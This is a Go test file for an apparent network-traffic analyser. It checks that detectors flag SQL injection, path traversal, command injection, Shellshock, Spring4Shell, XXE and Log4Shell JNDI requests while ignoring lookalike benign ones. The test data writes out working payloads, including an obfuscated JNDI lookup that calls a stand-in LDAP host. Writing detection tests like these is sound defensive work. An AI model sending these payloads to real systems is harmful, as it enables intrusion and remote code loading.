@@ -1,0 +1,82 @@
+package all_test
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/pcapsule/pcapsule/samples/traffic"
+)
+
+// TestWebAttacks has requests that attack an application, with answers that show the result or not, and requests that only
+// look alike.
+func TestWebAttacks(t *testing.T) {
+	const passwd = "root:x:0:0:root:/root:/bin/bash\n"
+	form := func(body string) [2]string {
+		return [2]string{"Content-Type: application/x-www-form-urlencoded\r\n", body}
+	}
+	for _, tt := range []struct {
+		name, first string
+		sent        [2]string // headers and body
+		status      string
+		answer      string
+		want        string
+	}{
+		{"SQL", "GET /item?id=1%27%20UNION%20SELECT%20name,pass%20FROM%20users--%20 HTTP/1.1", [2]string{}, "500 x", "You have an error in your SQL syntax near", "high: 10.0.0.1 sent SQL in the URL of 1 request to 10.0.0.2; 1 of the responses show"},
+		{"SQL that is always true", "GET /item?id=1%27+or+%271%27=%271 HTTP/1.1", [2]string{}, "200 OK", "hello", "medium: 10.0.0.1 sent SQL in the URL of 1 request to 10.0.0.2; the server answered 1 of them with success, which shows no result"},
+		{"SQL in a form", "POST /login HTTP/1.1", form("user=admin%27--+&password=x"), "403 x", "", "low: 10.0.0.1 sent SQL in the body of 1 request to 10.0.0.2; none was answered with success"},
+		{"a path", "GET /../../../../etc/passwd HTTP/1.1", [2]string{}, "200 OK", passwd, "high: 10.0.0.1 sent a path out of the published folder in the URL"},
+		{"a path encoded twice", "GET /a?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd HTTP/1.1", [2]string{}, "404 x", "", "low: 10.0.0.1 sent a path out of the published folder in the URL"},
+		{"a command", "GET /ping?host=127.0.0.1%3Bid HTTP/1.1", [2]string{}, "200 OK", "uid=33(www-data) gid=33(www-data)", "high: 10.0.0.1 sent a command in the URL"},
+		{"a shell of bash", "GET /cgi-bin/status HTTP/1.1", [2]string{"User-Agent: () { :;}; /bin/id\r\n", ""}, "500 x", "", "low: 10.0.0.1 sent a function definition of bash (Shellshock) in the header"},
+		{"Spring", "POST /x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1", [2]string{}, "200 OK", "", "medium: 10.0.0.1 sent a class loader of Spring (Spring4Shell) in the URL"},
+		{"an entity", "POST /xml HTTP/1.1", [2]string{"Content-Type: text/xml\r\n", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`}, "200 OK", passwd, "high: 10.0.0.1 sent an external entity of XML in the body"},
+		{"a name", "GET /people?name=O%27Brien&id=5;v=1 HTTP/1.1", [2]string{}, "200 OK", "uid=1", ""},
+		{"a search", "GET /search?q=union+and+select+committee&cat=books HTTP/1.1", [2]string{}, "200 OK", passwd, ""},
+		{"a query that a console sends", "POST /query HTTP/1.1", [2]string{"Content-Type: text/plain\r\n", "SELECT 1 UNION ALL SELECT 2"}, "200 OK", "1", ""},
+		{"a file that is about users", "GET /etc/docs?id=1&cat=2 HTTP/1.1", [2]string{}, "200 OK", passwd, ""},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			var w traffic.Capture
+			request := traffic.HTTP(tt.first, strings.TrimSuffix("Host: a\r\n"+tt.sent[0], "\r\n"), tt.sent[1])
+			w.Exchange(0, ms, "a", "10.0.0.1", "10.0.0.2:80", request, traffic.HTTP("HTTP/1.1 "+tt.status, "Content-Type: text/plain", tt.answer))
+			w.Close(time.Second, "a")
+			var want []string
+			if tt.want != "" {
+				want = []string{tt.want}
+			}
+			hold(t, of(t, openTraffic(t, &w), "web-attack"), want...)
+		})
+	}
+}
+
+// TestLookupsOfJNDI has lookups in several fields, with and without a connection to what they name.
+func TestLookupsOfJNDI(t *testing.T) {
+	const sent = "10.0.0.1 sent a lookup of JNDI for ldap://10.0.0.66:1389 to 10.0.0.2 in 1 request (Log4Shell, CVE-2021-44228)"
+	get := func(headers string) string { return traffic.HTTP("GET / HTTP/1.1", strings.TrimSuffix("Host: a\r\n"+headers, "\r\n"), "") }
+	for _, tt := range []struct{ name, request, back, want string }{
+		{"an attempt", get("X-Api: ${jndi:ldap://10.0.0.66:1389/a}\r\n"), "", "medium: " + sent + "; no connection to 10.0.0.66 was recorded within 5 minutes"},
+		{"a callback", get("User-Agent: ${jndi:ldap://10.0.0.66:1389/a}\r\n"), "10.0.0.66:1389", "high: " + sent + "; afterwards 10.0.0.2 connected to 10.0.0.66 at port 1389"},
+		{"another port", get("User-Agent: ${jndi:ldap://10.0.0.66:1389/a}\r\n"), "10.0.0.66:80", "medium: " + sent},
+		{"hidden", traffic.HTTP("GET /?x=%24%7b%24%7blower:J%7d%24%7b::-n%7ddi:l%24%7benv:NONE:-d%7dap://10.0.0.66:1389/a%7d HTTP/1.1", "Host: a", ""), "10.0.0.66:1389", "high: " + sent},
+		{"in a form", traffic.HTTP("POST /login HTTP/1.1", "Host: a\r\nContent-Type: application/x-www-form-urlencoded", "password=%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.66%3A1389%2Fa%7D"), "10.0.0.66:1389", "high: " + sent},
+		{"a template", get("X-Template: ${name} ${jndi} costs ${price:-5}\r\n"), "10.0.0.66:1389", ""},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			var w traffic.Capture
+			w.Exchange(0, ms, "a", "10.0.0.1", "10.0.0.2:80", tt.request, traffic.HTTP("HTTP/1.1 200 OK", "", ""))
+			if tt.back != "" {
+				w.Attempt(10*ms, "10.0.0.2", tt.back, false)
+			}
+			var want []string
+			if tt.want != "" {
+				want = []string{tt.want}
+			}
+			got := of(t, openTraffic(t, &w), "jndi-lookup")
+			hold(t, got, want...)
+			if tt.want != "" && strings.Contains(tt.want, "medium") && strings.Contains(got[0], "afterwards") {
+				t.Errorf("a callback: %s", got[0])
+			}
+		})
+	}
+}
